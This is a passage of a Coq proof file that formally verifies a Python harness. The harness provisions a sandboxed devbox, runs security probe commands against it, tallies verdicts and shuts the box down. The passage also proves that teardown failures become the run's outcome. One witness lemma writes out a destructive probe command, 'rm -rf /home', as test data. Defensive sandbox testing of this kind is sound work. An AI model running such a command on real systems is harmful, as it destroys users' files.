  emits N m -> (forall ev, N ev -> N' ev) -> emits N' m.
Proof.
  intros H W. apply (sat_weaken m _ _ H). intros _ E HE.
  eapply Forall_impl; [exact W | exact HE].
Qed.

(** A step of a proof that every event of a computation is of one kind;
    [tac] proves the side conditions on single events. *)
Ltac emits_step tac :=
  first
    [ apply emits_bind; [|intros ?]
    | apply emits_try_except; [|intros ?]
    | apply emits_try_finally
    | apply emits_ret
    | apply emits_raise
    | apply emits_out_of_fuel
    | apply emits_print; tac
    | apply emits_sleep; tac
    | apply emits_call; intros ?; tac
    | match goal with
      | |- emits _ (if ?c then _ else _) => destruct c
      | |- emits _ (match ?c with _ => _ end) => destruct c
      end ].

End Rules.

(* ===================================================================== *)
(** * Facts about traces *)
(* ===================================================================== *)

Module TraceFacts.
Import Trace Specs.
Local Open Scope list_scope.

Lemma count_app (p : event -> bool) (a b : trace) :
  count p (a ++ b) = (count p a + count p b)%nat.
Proof. unfold count. now rewrite filter_app, length_app. Qed.

Lemma filter_none (p : event -> bool) (E : trace) :
  Forall (fun ev => p ev = false) E -> filter p E = [].
Proof.
  induction 1 as [|ev E H _ IH]; simpl; [reflexivity|]. now rewrite H.
Qed.

Lemma count_none (p : event -> bool) (E : trace) :
  Forall (fun ev => p ev = false) E -> count p E = 0%nat.
Proof. intros H. unfold count. now rewrite filter_none. Qed.

Lemma last_poll_app (a b : trace) :
  last_poll (a ++ b)
  = match last_poll b with Some p => Some p | None => last_poll a end.
Proof.
  induction a as [|ev a IH]; simpl.
  - now destruct (last_poll b).
  - rewrite IH. now destruct (last_poll b).
Qed.

Lemma last_poll_none (E : trace) :
  Forall (fun ev => is_devbox_poll ev = false) E -> last_poll E = None.
Proof.
  induction 1 as [|ev E H _ IH]; simpl; [reflexivity|].
  rewrite IH. now destruct ev.
Qed.

Lemma reached_running_app (a b : trace) :
  reached_running (a ++ b) <-> reached_running a \/ reached_running b.
Proof.
  unfold reached_running. split.
  - intros [id H]. apply in_app_or in H as [H | H]; eauto.
  - intros [[id H] | [id H]]; exists id; apply in_or_app; auto.
Qed.

Lemma not_reached_without_poll (E : trace) :
  Forall (fun ev => is_devbox_poll ev = false) E -> ~ reached_running E.
Proof.
  intros H [id Hin]. rewrite Forall_forall in H.
  specialize (H _ Hin). discriminate.
Qed.

Lemma before_devbox_setup (E : trace) :
  Forall before_devbox E -> Forall setup_event E.
Proof. apply Forall_impl. now intros ev [H _]. Qed.

Lemma before_devbox_no_poll (E : trace) :
  Forall before_devbox E -> Forall (fun ev => is_devbox_poll ev = false) E.
Proof. apply Forall_impl. now intros ev [_ H]. Qed.

Lemma probe_event_not_poll (id : string) (E : trace) :
  Forall (probe_event id) E -> Forall (fun ev => is_devbox_poll ev = false) E.
Proof. apply Forall_impl. now intros []. Qed.

Lemma probe_event_not_shutdown (id : string) (E : trace) :
  Forall (probe_event id) E -> Forall (fun ev => is_shutdown ev = false) E.
Proof. apply Forall_impl. now intros []. Qed.

Lemma setup_not_shutdown (E : trace) :
  Forall setup_event E -> Forall (fun ev => is_shutdown ev = false) E.
Proof. apply Forall_impl. now intros ev [_ H]. Qed.

Lemma setup_not_execute (E : trace) :
  Forall setup_event E -> Forall (fun ev => is_execute ev = false) E.
Proof. apply Forall_impl. now intros ev [H _]. Qed.

Lemma prints_are_probe_events (id : string) (E : trace) :
  Forall (fun ev => is_print ev = true) E -> Forall (probe_event id) E.
Proof. apply Forall_impl. now intros []. Qed.

Lemma prints_not_execute (E : trace) :
  Forall (fun ev => is_print ev = true) E ->
  Forall (fun ev => is_execute ev = false) E.
Proof. apply Forall_impl. now intros []. Qed.

Lemma prints_recovered (E : trace) :
  Forall (fun ev => is_print ev = true) E -> Forall recovered E.
Proof. apply Forall_impl. now intros []. Qed.

Lemma count_shutdown_cleanup (id : string) (a : answer unit) :
  count is_shutdown (cleanup_events id a) = 1%nat.
Proof. now destruct a. Qed.

(** Where an event sits when it is in the second of two appended traces. *)
Lemma split_after_prefix (E1 E2 pre post : trace) (ev : event) :
  (E1 ++ E2 = pre ++ ev :: post)%list ->
  ~ In ev E1 ->
  exists pre2, pre = (E1 ++ pre2)%list /\ E2 = (pre2 ++ ev :: post)%list.
Proof.
  revert pre. induction E1 as [|x E1 IH]; intros pre H Hn.
  - now exists pre.
  - destruct pre as [|y pre]; simpl in H.
    + injection H as -> _. elim Hn. now left.
    + injection H as -> H. destruct (IH pre H) as [pre2 [-> ->]].
      * intros Hin. apply Hn. now right.
      * now exists pre2.
Qed.

(** Where an event sits when it is not in the second of two appended
    traces. *)
Lemma split_before_suffix (E1 E2 pre post : trace) (ev : event) :
  (E1 ++ E2 = pre ++ ev :: post)%list ->
  ~ In ev E2 ->
  exists post1, E1 = (pre ++ ev :: post1)%list /\ post = (post1 ++ E2)%list.
Proof.
  revert pre. induction E1 as [|x E1 IH]; intros pre H Hn.
  - simpl in H. elim Hn. rewrite H. apply in_or_app. right. now left.
  - destruct pre as [|y pre]; simpl in H.
    + injection H as -> <-. now exists E1.
    + injection H as -> H. destruct (IH pre H Hn) as [post1 [-> ->]].
      now exists post1.
Qed.

End TraceFacts.

(* ===================================================================== *)
(** * The phases of [main] *)
(* ===================================================================== *)

Module RunFacts.
Import PyStr Trace Specs Rules TraceFacts Run.
Local Open Scope list_scope.

Ltac kind :=
  first
    [ now repeat split
    | split; [reflexivity | intros ? ?; discriminate]
    | exact I ].

(** ** Which events each phase can add *)

Lemma check_prerequisites_before_devbox (w : World) :
  emits before_devbox (check_prerequisites w).
Proof. unfold check_prerequisites. repeat emits_step kind. Qed.


Lemma read_file_before_devbox (w : World) (file : string) :
  emits before_devbox (read_file w file).
Proof. unfold read_file. repeat emits_step kind. Qed.


Lemma wait_for_blueprint_before_devbox (w : World) (fuel : nat) (id : string) :
  emits before_devbox (wait_for_blueprint w fuel id).
Proof.
  induction fuel as [|fuel IH]; cbn [wait_for_blueprint].
  - apply emits_out_of_fuel.
  - repeat first [exact IH | emits_step kind].
Qed.

Lemma create_blueprint_before_devbox (w : World) (fuel : nat)
    (dockerfile default_yaml config_yaml : string) :
  emits before_devbox
    (create_blueprint w fuel dockerfile default_yaml config_yaml).
Proof.
  unfold create_blueprint.
  repeat first [apply wait_for_blueprint_before_devbox | emits_step kind].
Qed.








(** ** Provisioning ends with the devbox seen running *)

Lemma provisioned_prefix {A} (id_of : A -> string) (r : outcome A)
    (E1 E2 : trace) :
  Forall before_devbox E1 ->
  provisioned id_of r E2 ->
  provisioned id_of r (E1 ++ E2).
Proof.
  intros H1 [H2 H3]. split.
  - apply Forall_app. split; [now apply before_devbox_setup | exact H2].
  - assert (Hn : ~ reached_running E1)
      by now apply not_reached_without_poll, before_devbox_no_poll.
    destruct r.
    + rewrite last_poll_app, H3. reflexivity.
    + rewrite reached_running_app. tauto.
    + rewrite reached_running_app. tauto.
Qed.

Lemma provisioned_quiet_raise {A} (id_of : A -> string) (e : exn) (E : trace) :
  Forall before_devbox E -> provisioned id_of (Raise e) E.
Proof.
  intros H. split; [now apply before_devbox_setup|].
  now apply not_reached_without_poll, before_devbox_no_poll.
Qed.

Lemma provisioned_quiet_out_of_fuel {A} (id_of : A -> string) (E : trace) :
  Forall before_devbox E -> provisioned id_of OutOfFuel E.
Proof.
  intros H. split; [now apply before_devbox_setup|].
  now apply not_reached_without_poll, before_devbox_no_poll.
Qed.

(** A phase that cannot touch the devbox, followed by a provisioning
    phase, is a provisioning phase. *)
Lemma provisioned_after {A B} (id_of : B -> string) (m : M A) (f : A -> M B) :
  emits before_devbox m ->
  (forall a, sat (f a) (provisioned id_of)) ->
  sat (bind m f) (provisioned id_of).
Proof.
  intros Hm Hf.
  apply (sat_bind m f (fun _ E => Forall before_devbox E)
           (fun _ => provisioned id_of)); try assumption.
  - intros a E1 r E2. apply provisioned_prefix.
  - intros e E. apply provisioned_quiet_raise.
  - intros E. apply provisioned_quiet_out_of_fuel.
Qed.

(** How [bind] runs after a call and after a single event. *)
Lemma bind_call_run {A B} (ask : trace -> answer A) (log : answer A -> event)
    (f : A -> M B) (h : trace) :
  bind (call ask log) f h
  = match ask h with
    | Returns x =>
        (fst (f x (h ++ [log (Returns x)])),
         log (Returns x) :: snd (f x (h ++ [log (Returns x)])))
    | Raises e => (Raise e, [log (Raises e)])
    end.
Proof.
  unfold bind, call. destruct (ask h) as [x | e]; [|reflexivity].
  now destruct (f x (h ++ [log (Returns x)])).
Qed.

Lemma bind_emit_run {B} (ev : event) (f : unit -> M B) (h : trace) :
  bind (emit ev) f h = (fst (f tt (h ++ [ev])), ev :: snd (f tt (h ++ [ev]))).
Proof. unfold bind, emit. now destruct (f tt (h ++ [ev])). Qed.

Lemma wait_for_devbox_provisioned (w : World) (fuel : nat) (id : string) :
  sat (wait_for_devbox w fuel id) (provisioned (fun _ => id)).
Proof.
  induction fuel as [|fuel IH]; intros h.
  - split; [constructor | now apply not_reached_without_poll].
  - cbn [wait_for_devbox]. rewrite bind_call_run.
    destruct (devboxes_retrieve w h id) as [status | e].
    + destruct (String.eqb_spec status "running") as [-> | Hs].
      * split; [repeat constructor | reflexivity].
      * destruct (String.eqb status "failed" || String.eqb status "shutdown").
        -- split; [repeat constructor|].
           intros [id' [H | []]]. congruence.
        -- unfold sleep. rewrite bind_emit_run.
           match goal with
           | |- context [wait_for_devbox w fuel id ?hh] =>
               specialize (IH hh); destruct (wait_for_devbox w fuel id hh) as [r E]
           end.
           cbn [fst snd] in *. destruct IH as [H1 H2]. split.
           ++ repeat constructor; exact H1.
           ++ destruct r.
              ** cbn [last_poll]. now rewrite H2.
              ** intros [id' [H | [H | H]]]; try congruence. apply H2. now exists id'.
              ** intros [id' [H | [H | H]]]; try congruence. apply H2. now exists id'.
    + split; [repeat constructor|]. intros [id' [H | []]]. discriminate.
Qed.

Lemma create_devbox_provisioned (w : World) (fuel : nat) (blueprint_id : string) :
  sat (create_devbox w fuel blueprint_id) (provisioned (fun id => id)).
Proof.
  unfold create_devbox.
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply provisioned_after; [apply emits_call; intros ?; kind | intros devbox_id].
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply (sat_bind _ _ (provisioned (fun _ => devbox_id))
           (fun _ r E =>
              r = Done devbox_id
              /\ E = [EvPrint "    Waiting for agentsh daemon to initialize...";
                      EvSleep 10])).
  - apply wait_for_devbox_provisioned.
  - intros a h. split; reflexivity.
  - intros a E1 r E2 [H1 H2] [-> ->]. split.
    + apply Forall_app. split; [exact H1 | repeat constructor].
    + rewrite last_poll_app. exact H2.
  - intros e E H. exact H.
  - intros E H. exact H.
Qed.

Lemma provision_provisioned (w : World) (fuel : nat) :
  sat (provision w fuel) (provisioned (fun id => id)).
Proof.
  unfold provision.
  apply provisioned_after; [apply check_prerequisites_before_devbox | intros _].
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply provisioned_after; [apply emits_print; kind | intros _].
  apply provisioned_after; [apply read_file_before_devbox | intros dockerfile].
  apply provisioned_after; [apply read_file_before_devbox | intros default_yaml].
  apply provisioned_after; [apply read_file_before_devbox | intros config_yaml].
  apply provisioned_after; [apply create_blueprint_before_devbox | intros id].
  apply create_devbox_provisioned.
Qed.

(** ** One probe *)

Lemma run_test_probed (w : World) (id : string) (test : Test)
    (results : Results) :
  sat (run_test w id test results) (probed id test results).
Proof.
  intros h. unfold run_test, print. rewrite !bind_emit_run. cbn [fst snd].
  unfold try_except. rewrite bind_call_run.
  match goal with
  | |- context [devboxes_execute_sync w ?hh id (command test) 30] =>
      destruct (devboxes_execute_sync w hh id (command test) 30) as [result | e]
  end.
  - rewrite !bind_emit_run. cbn [fst snd ret].
    eexists (Returns result), [_; _; _], _.
    split; [reflexivity|]. repeat split; repeat constructor.
  - destruct e; cbn [fst snd].
    + rewrite !bind_emit_run. cbn [fst snd ret app].
      eexists (Raises TimeoutError), [_; _; _], _.
      split; [reflexivity|]. repeat split; repeat constructor.
    + rewrite !bind_emit_run. cbn [fst snd ret app].
      eexists (Raises (Exception msg)), [_; _; _], _.
      split; [reflexivity|]. repeat split; repeat constructor.
    + eexists (Raises (BaseException msg)), [_; _; _], _.
      split; [reflexivity|]. repeat split; repeat constructor.
    + eexists (Raises (SystemExit code)), [_; _; _], _.
      split; [reflexivity|]. repeat split; repeat constructor.
Qed.

(** ** The loops *)

Lemma looped_nil (id : string) (results : Results) :
  looped id [] results (Done results) [].
Proof.
  repeat split; [constructor | discriminate | | eauto].
  intros results' H. injection H as <-. now exists [].
Qed.

Lemma probed_looped (id : string) (test : Test) (results : Results)
    (r : outcome Results) (E : trace) :
  probed id test results r E -> looped id [test] results r E.
Proof.
  intros (a & pre & post & -> & Hpre & Hpost & ->).
  repeat split.
  - apply Forall_app. split; [now apply prints_are_probe_events|].
    constructor; [now split | now apply prints_are_probe_events].
  - destruct a as [result | e]; simpl; [discriminate|].
    destruct (is_Exception e); discriminate.
  - intros results' H. rewrite count_app. unfold count at 2. cbn [filter is_execute].
    cbn [List.length]. fold (count is_execute post).
    rewrite !count_none by now apply prints_not_execute.
    destruct a as [result | e]; simpl in H.
    + injection H as <-. now exists [Classifier.verdict test result].
    + destruct (is_Exception e); [|discriminate].
      injection H as <-. now exists [Errored].
  - intros H. apply Forall_app in H as [_ H]. inversion H as [|? ? Ha _]; subst.
    destruct a as [result | e]; simpl; [eauto|].
    simpl in Ha. rewrite Ha. eauto.
Qed.

Lemma looped_seq (id : string) (ts1 ts2 : list Test)
    (results a : Results) (r : outcome Results) (E1 E2 : trace) :
  looped id ts1 results (Done a) E1 ->
  looped id ts2 a r E2 ->
  looped id (ts1 ++ ts2) results r (E1 ++ E2).
Proof.
  intros (F1 & _ & D1 & _) (F2 & N2 & D2 & R2).
  destruct (D1 a eq_refl) as (vs1 & L1 & -> & C1).
  repeat split.
  - apply Forall_app. now split.
  - exact N2.
  - intros results' H. destruct (D2 results' H) as (vs2 & L2 & -> & C2).
    exists (vs1 ++ vs2). rewrite !length_app, fold_left_app, count_app. auto.
  - intros H. apply Forall_app in H as [_ H]. now apply R2.
Qed.

Lemma looped_raise (id : string) (ts1 ts2 : list Test) (results : Results)
    (e : exn) (E : trace) :
  looped id ts1 results (Raise e) E ->
  looped id (ts1 ++ ts2) results (Raise e) E.
Proof.
  intros (F & _ & _ & R). repeat split; [exact F | discriminate | discriminate |].
  intros H. destruct (R H) as [x Hx]. discriminate.
Qed.

Lemma looped_bind (id : string) (ts1 ts2 : list Test) (results : Results)
    (m : M Results) (f : Results -> M Results) :
  sat m (looped id ts1 results) ->
  (forall a, sat (f a) (looped id ts2 a)) ->
  sat (bind m f) (looped id (ts1 ++ ts2) results).
Proof.
  intros Hm Hf.
  apply (sat_bind m f (looped id ts1 results) (fun a => looped id ts2 a));
    try assumption.
  - intros a E1 r E2. apply looped_seq.
  - intros e E. apply looped_raise.
  - intros E (_ & N & _). now elim N.
Qed.

Lemma looped_after_print (id : string) (ts : list Test) (results : Results)
    (text : string) (f : unit -> M Results) :
  sat (f tt) (looped id ts results) ->
  sat (bind (print text) f) (looped id ts results).
Proof.
  intros H h. unfold print. rewrite bind_emit_run. cbn [fst snd].
  destruct (H (h ++ [EvPrint text])) as (F & N & D & R).
  repeat split.
  - constructor; [exact I | exact F].
  - exact N.
  - exact D.
  - intros HR. inversion HR; subst. now apply R.
Qed.

Lemma run_tests_looped (w : World) (id : string) (ts : list Test)
    (results : Results) :
  sat (run_tests w id ts results) (looped id ts results).
Proof.
  revert results. induction ts as [|test ts IH]; intros results;
    cbn [run_tests].
  - apply sat_ret, looped_nil.
  - apply (looped_bind id [test] ts).
    + apply (sat_weaken _ _ _ (run_test_probed w id test results)).
      apply probed_looped.
    + intros a. apply IH.
Qed.

Lemma run_categories_looped (w : World) (id : string) (catalog : Catalog)
    (results : Results) :
  sat (run_categories w id catalog results)
      (looped id (all_tests catalog) results).
Proof.
  revert results.
  induction catalog as [|[key category] catalog IH]; intros results;
    cbn [run_categories].
  - apply sat_ret, looped_nil.
  - do 4 apply looped_after_print.
    apply (looped_bind id (tests category) (all_tests catalog)).
    + apply run_tests_looped.
    + intros a. apply IH.
Qed.

Lemma security_tests_looped (w : World) (catalog : Catalog) (id : string) :
  sat (security_tests w catalog id)
      (looped id (all_tests catalog) (mkResults 0 0 0)).
Proof.
  unfold security_tests.
  rewrite <- (app_nil_r (all_tests catalog)).
  apply (looped_bind id (all_tests catalog) []).
  - apply run_categories_looped.
  - intros a. do 4 apply looped_after_print. apply sat_ret, looped_nil.
Qed.

(** ** The [finally] block and the whole run *)

Lemma cleanup_events_run (w : World) (id : string) :
  sat (cleanup w id)
      (fun r E =>
         exists a, E = cleanup_events id a
                   /\ r = match a with
                          | Returns _ => Done tt
                          | Raises e => Raise e
                          end).
Proof.
  intros h. unfold cleanup, print. rewrite bind_emit_run, bind_call_run.
  match goal with
  | |- context [devboxes_shutdown w ?hh id] =>
      destruct (devboxes_shutdown w hh id) as [[] | e]
  end.
  - exists (Returns tt). split; reflexivity.
  - exists (Raises e). split; reflexivity.
Qed.

Theorem main_ran (w : World) (catalog : Catalog) (fuel : nat) :
  sat (main_on w catalog fuel) (ran catalog).
Proof.
  unfold main_on.
  apply (sat_bind _ _ (provisioned (fun id => id))
           (fun id r E =>
              exists E2 r2 a,
                E = E2 ++ cleanup_events id a
                /\ looped id (all_tests catalog) (mkResults 0 0 0) r2 E2
                /\ r = match a with Returns _ => r2 | Raises e => Raise e end)).
  - apply provision_provisioned.
  - intros id.
    eapply sat_try_finally;
      [apply security_tests_looped | apply cleanup_events_run | |].
    + intros E (_ & N & _). now elim N.
    + intros r E1 r2 E2 _ H (a & -> & ->).
      exists E1, r, a. split; [reflexivity|]. split; [exact H|]. now destruct a.
  - intros id E1 r E (H1 & H2) (E2 & r2 & a & -> & L & ->).
    right. exists id, E1, E2, r2, a. auto.
  - intros e E [H1 H2]. left. repeat split; [exact H1 | exact H2 | discriminate].
  - intros E [H1 H2]. left. repeat split; [exact H1 | exact H2 | discriminate].
Qed.

(** ** A failed build *)













(** ** The counters *)

Lemma incr_exactly_one (v : Verdict) (results : Results) :
  total (incr v results) = (total results + 1)%Z
  /\ (passed results <= passed (incr v results))%Z
  /\ (failed results <= failed (incr v results))%Z
  /\ (errors results <= errors (incr v results))%Z.
Proof. unfold total. destruct v; simpl; lia. Qed.

Lemma total_fold (vs : list Verdict) (results : Results) :
  total (fold_left (fun rs v => incr v rs) vs results)
  = (total results + Z.of_nat (List.length vs))%Z.
Proof.
  revert results. induction vs as [|v vs IH]; intros results.
  - simpl. lia.
  - cbn [fold_left List.length]. rewrite IH.
    destruct (incr_exactly_one v results) as [-> _]. lia.
Qed.

(** Counters never go down along the verdicts of a run. *)
Lemma fold_monotone (vs : list Verdict) (results : Results) :
  (passed results <= passed (fold_left (fun rs v => incr v rs) vs results))%Z
  /\ (failed results <= failed (fold_left (fun rs v => incr v rs) vs results))%Z
  /\ (errors results <= errors (fold_left (fun rs v => incr v rs) vs results))%Z.
Proof.
  revert results. induction vs as [|v vs IH]; intros results.
  - simpl. lia.
  - cbn [fold_left]. specialize (IH (incr v results)).
    destruct (incr_exactly_one v results) as (_ & ? & ? & ?). lia.
Qed.

(** When every exception of [execute_sync] is of class [Exception], the
    probe loop runs every probe and returns. *)
Theorem probe_errors_never_abort (w : World) (catalog : Catalog) (id : string)
    (h : trace) :
  Forall recovered (snd (security_tests w catalog id h)) ->
  exists results,
    fst (security_tests w catalog id h) = Done results
    /\ count is_execute (snd (security_tests w catalog id h))
       = List.length (all_tests catalog).
Proof.
  intros H. destruct (security_tests_looped w catalog id h) as (_ & _ & D & R).
  destruct (R H) as [results Hr]. exists results. split; [exact Hr|].
  now destruct (D results Hr) as (vs & _ & _ & C).
Qed.

(** No devbox seen running, no shutdown. *)
Theorem no_shutdown_before_running (w : World) (catalog : Catalog) (fuel : nat) :
  ~ reached_running (snd (run_on w catalog fuel)) ->
  count is_shutdown (snd (run_on w catalog fuel)) = 0%nat.
Proof.
  unfold run_on. intros Hn.
  destruct (main_ran w catalog fuel [])
    as [(F & _ & _) | (id & E1 & E2 & r2 & a & HE & F1 & P1 & L & _)].
  - now apply count_none, setup_not_shutdown.
  - elim Hn. rewrite HE. apply reached_running_app. left. exists id.
    clear - P1. induction E1 as [|ev E1 IH]; [discriminate|].
    simpl in P1. destruct (last_poll E1) as [p|] eqn:Ep.
    + right. now apply IH.
    + left. destruct ev; try discriminate. now injection P1 as -> ->.
Qed.


(** ** More fuel changes nothing once the polling loops have ended *)

Lemma settles_refl {A} (m : M A) : settles m m.
Proof. intros h _. reflexivity. Qed.

Lemma settles_bind {A B} (m m' : M A) (f f' : A -> M B) :
  settles m m' ->
  (forall a, settles (f a) (f' a)) ->
  settles (bind m f) (bind m' f').
Proof.
  intros Hm Hf h Hne. unfold bind in *.
  specialize (Hm h). destruct (m h) as [[a | e |] E1].
  - rewrite Hm by discriminate.
    specialize (Hf a (h ++ E1)). destruct (f a (h ++ E1)) as [r2 E2].
    cbn [fst] in *. now rewrite (Hf Hne).
  - now rewrite Hm by discriminate.
  - now elim Hne.
Qed.

Lemma wait_for_blueprint_S (w : World) (fuel : nat) (id : string) :
  wait_for_blueprint w (S fuel) id
  = bind (call (fun h => blueprints_retrieve w h id) (EvBlueprintsRetrieve id))
      (fun status =>
         bind (print ("    Status: " ++ status)%string)
           (fun _ =>
              if String.eqb status "build_complete" then
                print "    Blueprint build complete!"
              else if String.eqb status "build_failed" then
                bind
                  (try_except
                     (bind (call (fun h => blueprints_logs w h id)
                              (EvBlueprintsLogs id))
                        (fun logs => print ("    Build logs: " ++ logs)%string))
                     (fun e => if is_Exception e then ret tt else raise e))
                  (fun _ => raise (Exception "Blueprint build failed"))
              else bind (sleep 5) (fun _ => wait_for_blueprint w fuel id))).
Proof. reflexivity. Qed.

Lemma wait_for_devbox_S (w : World) (fuel : nat) (id : string) :
  wait_for_devbox w (S fuel) id
  = bind (call (fun h => devboxes_retrieve w h id) (EvDevboxesRetrieve id))
      (fun status =>
         if String.eqb status "running" then
           print "    Devbox is running!"
         else if String.eqb status "failed" || String.eqb status "shutdown" then
           raise (Exception ("Devbox failed to start: " ++ status)%string)
         else bind (sleep 2) (fun _ => wait_for_devbox w fuel id)).
Proof. reflexivity. Qed.

Lemma wait_for_blueprint_settles (w : World) (fuel : nat) (id : string) :
  settles (wait_for_blueprint w fuel id) (wait_for_blueprint w (S fuel) id).
Proof.
  induction fuel as [|fuel IH].
  - intros h Hne. now elim Hne.
  - rewrite (wait_for_blueprint_S w (S fuel)), (wait_for_blueprint_S w fuel).
    apply settles_bind; [apply settles_refl | intros status].
    apply settles_bind; [apply settles_refl | intros _].
    destruct (String.eqb status "build_complete"); [apply settles_refl|].
    destruct (String.eqb status "build_failed"); [apply settles_refl|].
    apply settles_bind; [apply settles_refl | intros _; exact IH].
Qed.

Lemma wait_for_devbox_settles (w : World) (fuel : nat) (id : string) :
  settles (wait_for_devbox w fuel id) (wait_for_devbox w (S fuel) id).
Proof.
  induction fuel as [|fuel IH].
  - intros h Hne. now elim Hne.
  - rewrite (wait_for_devbox_S w (S fuel)), (wait_for_devbox_S w fuel).
    apply settles_bind; [apply settles_refl | intros status].
    destruct (String.eqb status "running"); [apply settles_refl|].
    destruct (String.eqb status "failed" || String.eqb status "shutdown");
      [apply settles_refl|].
    apply settles_bind; [apply settles_refl | intros _; exact IH].
Qed.

Lemma main_settles (w : World) (catalog : Catalog) (fuel : nat) :
  settles (main_on w catalog fuel) (main_on w catalog (S fuel)).
Proof.
  unfold main_on, provision, create_blueprint, create_devbox.
  repeat first
    [ apply wait_for_blueprint_settles
    | apply wait_for_devbox_settles
    | apply settles_bind; [|intros ?]
    | apply settles_refl ].
Qed.

(** A run that ended with [fuel] polls allowed is the same run with any
    larger allowance. *)
Theorem more_fuel (w : World) (catalog : Catalog) (fuel fuel' : nat) :
  fuel <= fuel' ->
  fst (run_on w catalog fuel) <> OutOfFuel ->
  run_on w catalog fuel' = run_on w catalog fuel.
Proof.
  unfold run_on. induction 1 as [|fuel' Hle IH]; intros Hne; [reflexivity|].
  rewrite <- (IH Hne). apply main_settles. now rewrite (IH Hne).
Qed.

End RunFacts.

Import Trace Run.
Local Open Scope list_scope.

(** C7 does not hold as stated: the same run ends normally when
    [shutdown] returns and with the exception of [shutdown] when it
    raises. *)
Lemma C7_shutdown_failure_is_fatal :
  fst (run Samples.world_ok 2) = Done (mkResults 13 7 0)
  /\ fst (run Samples.world_shutdown_fails 2)
     = Raise (Exception "503 Service Unavailable")
  /\ count is_print (snd (run Samples.world_ok 2))
     = S (count is_print (snd (run Samples.world_shutdown_fails 2))).
Proof.
  split; [vm_compute; reflexivity|].
  split; vm_compute; reflexivity.
Qed.

(** C7, amended.  Teardown is not protected: when the [shutdown] call of
    the [finally] block raises, that exception is the outcome of the run,
    in place of the result or the exception of the probe loop, and
    nothing is printed after the call. *)
Theorem C7_shutdown_exception_is_the_outcome (w : World) (catalog : Catalog)
    (fuel : nat) (id : string) (e : exn) :
  In (EvShutdown id (Raises e)) (snd (run_on w catalog fuel)) ->
  fst (run_on w catalog fuel) = Raise e
  /\ exists E, snd (run_on w catalog fuel) = E ++ [EvShutdown id (Raises e)].
Proof.
  unfold run_on. intros Hin.
  destruct (RunFacts.main_ran w catalog fuel [])
    as [(F & _ & _) | (id' & E1 & E2 & r2 & a & HE & F1 & _ & (F2 & _) & Hr)].
  - apply TraceFacts.setup_not_shutdown in F. rewrite Forall_forall in F.
    specialize (F _ Hin). discriminate.
  - rewrite HE in Hin |- *. rewrite Hr.
    apply in_app_or in Hin as [Hin | Hin].
    { apply TraceFacts.setup_not_shutdown in F1. rewrite Forall_forall in F1.
      specialize (F1 _ Hin). discriminate. }
    apply in_app_or in Hin as [Hin | Hin].
    { apply (TraceFacts.probe_event_not_shutdown id') in F2.
      rewrite Forall_forall in F2. specialize (F2 _ Hin). discriminate. }
    destruct a as [[] | e'].
    + destruct Hin as [Hin | [Hin | [Hin | []]]]; discriminate.
    + destruct Hin as [Hin | [Hin | []]]; [discriminate|].
      injection Hin as -> ->. split; [reflexivity|].
      exists (E1 ++ E2 ++ [EvPrint (nl ++ "[CLEANUP] Shutting down Devbox...")%string]).
      unfold cleanup_events. now rewrite <- !app_assoc.
Qed.

Lemma C7_shutdown_exception_witness :
  In (EvShutdown "dbx_1" (Raises (Exception "503 Service Unavailable")))
     (snd (run_on Samples.world_shutdown_fails SECURITY_TESTS 2))
  /\ fst (run_on Samples.world_shutdown_fails SECURITY_TESTS 2)
     = Raise (Exception "503 Service Unavailable")
  /\ exists E,
       snd (run_on Samples.world_shutdown_fails SECURITY_TESTS 2)
       = E ++ [EvShutdown "dbx_1" (Raises (Exception "503 Service Unavailable"))].
Proof.
  assert (H : In (EvShutdown "dbx_1" (Raises (Exception "503 Service Unavailable")))
                 (snd (run_on Samples.world_shutdown_fails SECURITY_TESTS 2)))
    by (apply (nth_error_In _ 188); vm_compute; reflexivity).
  split; [exact H|].
  exact (C7_shutdown_exception_is_the_outcome Samples.world_shutdown_fails
           SECURITY_TESTS 2 "dbx_1" (Exception "503 Service Unavailable") H).
Defined.




(** C9.  Whenever a command is sent with [execute_sync], the latest poll
    of the devbox before it was a poll of that same devbox answered
    ["running"]: no probe is sent to a devbox last seen in another
    status, or never polled. *)
Theorem C9_probes_only_on_running_devbox (w : World) (catalog : Catalog)
    (fuel : nat) (pre post : trace) (id command_ : string) (timeout : Z)
    (a : answer ExecutionResult) :
  snd (run_on w catalog fuel) = pre ++ EvExecuteSync id command_ timeout a :: post ->
  last_poll pre = Some (id, Returns "running").
Proof.
  unfold run_on. intros HE.
  destruct (RunFacts.main_ran w catalog fuel [])
    as [(F & _ & _) | (id' & E1 & E2 & r2 & r & HE' & F1 & P1 & (F2 & _) & _)].
  - apply TraceFacts.setup_not_execute in F. rewrite HE, Forall_forall in F.
    specialize (F (EvExecuteSync id command_ timeout a)).
    discriminate F. apply in_or_app. right. now left.
  - rewrite HE' in HE.
    destruct (TraceFacts.split_after_prefix _ _ _ _ _ HE) as (pre2 & -> & HE2).
    { intros Hin. apply TraceFacts.setup_not_execute in F1.
      rewrite Forall_forall in F1. specialize (F1 _ Hin). discriminate. }
    destruct (TraceFacts.split_before_suffix _ _ _ _ _ HE2) as (post1 & -> & _).
    { destruct r as [[] | e]; simpl; intuition discriminate. }
    apply Forall_app in F2 as [Fpre Fev].
    inversion Fev as [|? ? Hev _]; subst. destruct Hev as [Hid _].
    rewrite TraceFacts.last_poll_app.
    rewrite (TraceFacts.last_poll_none pre2)
      by now apply (TraceFacts.probe_event_not_poll id').
    rewrite Hid. exact P1.
Qed.

Lemma C9_probes_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  E = firstn 34 E
      ++ EvExecuteSync "dbx_1" "rm -rf /home 2>&1" 30
           (Returns (mkResult 0 (Some "ok") None)) :: skipn 35 E
  /\ last_poll (firstn 34 E) = Some ("dbx_1", Returns "running").
Proof.
  intros E.
  assert (H : E = firstn 34 E
                  ++ EvExecuteSync "dbx_1" "rm -rf /home 2>&1" 30
                       (Returns (mkResult 0 (Some "ok") None)) :: skipn 35 E)
    by (vm_compute; reflexivity).
  split; [exact H|].
  exact (C9_probes_only_on_running_devbox Samples.world_ok SECURITY_TESTS 2
           _ _ _ _ _ _ H).
Defined.

(* ===================================================================== *)
(** * Facts about the text of a result *)
(* ===================================================================== *)

Module OutputFacts.
Import PyStr PyStrFacts Classifier.
Local Open Scope string_scope.

Lemma length_app (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof. induction a; simpl; congruence. Qed.

